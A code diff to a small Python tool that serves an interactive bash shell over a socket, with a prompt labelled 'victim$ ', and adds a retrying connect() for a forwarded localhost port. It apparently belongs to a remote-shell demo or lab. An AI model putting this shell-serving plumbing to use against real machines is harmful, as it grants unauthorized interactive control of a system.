@@ -6,6 +6,7 @@ import pty
 import select
 import socket
 import sys
+import time
 
 
 def offer(port):
@@ -15,6 +16,16 @@ def offer(port):
     if child == 0:
         os.execve("/bin/bash", ["bash", "--norc", "-i"], {"PS1": "victim$ ", "TERM": "xterm", "PATH": "/usr/bin:/bin", "HOME": os.environ["HOME"]})
     join(connection.fileno(), connection.fileno(), terminal, terminal)
+
+
+def connect(port):
+    """The forwarded port may take a moment to be there."""
+    for _ in range(20):
+        try:
+            return socket.create_connection(("127.0.0.1", port), 10)
+        except ConnectionRefusedError:
+            time.sleep(0.3)
+    sys.exit("nobody listens")
 
 
 def join(read_a, write_a, read_b, write_b):
@@ -32,7 +43,7 @@ def join(read_a, write_a, read_b, write_b):
 
 def main():
     if sys.argv[1] == "--connect":
-        connection = socket.create_connection(("127.0.0.1", int(sys.argv[2])), 10)
+        connection = connect(int(sys.argv[2]))
         os.system("stty raw -echo")
         join(0, 1, connection.fileno(), connection.fileno())
     else:
